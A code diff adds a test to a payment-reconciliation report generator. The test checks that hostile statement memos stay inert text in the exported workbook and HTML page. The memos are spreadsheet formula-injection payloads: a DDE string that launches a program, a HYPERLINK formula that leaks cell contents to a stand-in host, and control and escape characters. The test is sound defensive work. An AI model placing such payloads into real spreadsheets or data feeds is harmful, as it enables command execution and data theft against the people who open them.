@@ -384,6 +384,48 @@ def test_the_workbook_has_the_summary_the_open_breaks_and_the_unidentified_items
     assert [(i[1], i[5], i[6]) for i in items] == [("T20261207000001", 888.88, "货款 unknown")]
 
 
+#: memos a payment system might send: each would run or mislead if a sheet read it as a
+#: formula, an error value or a bad character
+HOSTILE_MEMOS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&A1)',
+    "+1+2",
+    "-2+3",
+    "@SUM(1+1)",
+    "#N/A",
+    "退款\x01\x1b[31m",
+]
+
+
+def test_a_memo_that_reads_like_a_formula_or_holds_a_control_character_stays_text_in_the_workbook(
+    engine: Engine, tmp_path: Path
+) -> None:
+    seed(engine)
+    with engine.begin() as conn:
+        file_id = conn.scalar(text("SELECT file_id FROM statement_line LIMIT 1"))
+        for n, memo in enumerate(HOSTILE_MEMOS):
+            conn.execute(
+                text(
+                    "INSERT INTO statement_line (sender, txn_ref, file_id, business_date, "
+                    "value_date, dc, amount_fen, memo, kind, posted) VALUES ('PBOC', :ref, :f, "
+                    ":d, :d, 'C', 100, :memo, 'UNIDENTIFIED', false)"
+                ),
+                {"ref": f"X{n}", "f": file_id, "d": DAY, "memo": memo},
+            )
+
+    paths = write_reports(engine, DAY, tmp_path)
+
+    sheet = load_workbook(paths.workbook)["Unidentified"]
+    memos = {r[1].value: r[6] for r in sheet.iter_rows(min_row=2)}
+    for n, memo in enumerate(HOSTILE_MEMOS):
+        cell = memos[f"X{n}"]
+        assert cell.data_type == "s", (memo, cell.data_type)
+        assert cell.value == memo.replace("\x01", "\ufffd").replace("\x1b", "\ufffd")
+        assert cell.quotePrefix == memo.startswith(("=", "+", "-", "@"))
+    page = paths.html.read_text(encoding="utf-8")
+    assert "=cmd|&#x27; /C calc&#x27;!A0" in page
+
+
 def test_the_workbook_opens_in_libreoffice(engine: Engine, tmp_path: Path) -> None:
     office = shutil.which("libreoffice") or shutil.which("soffice")
     if office is None:
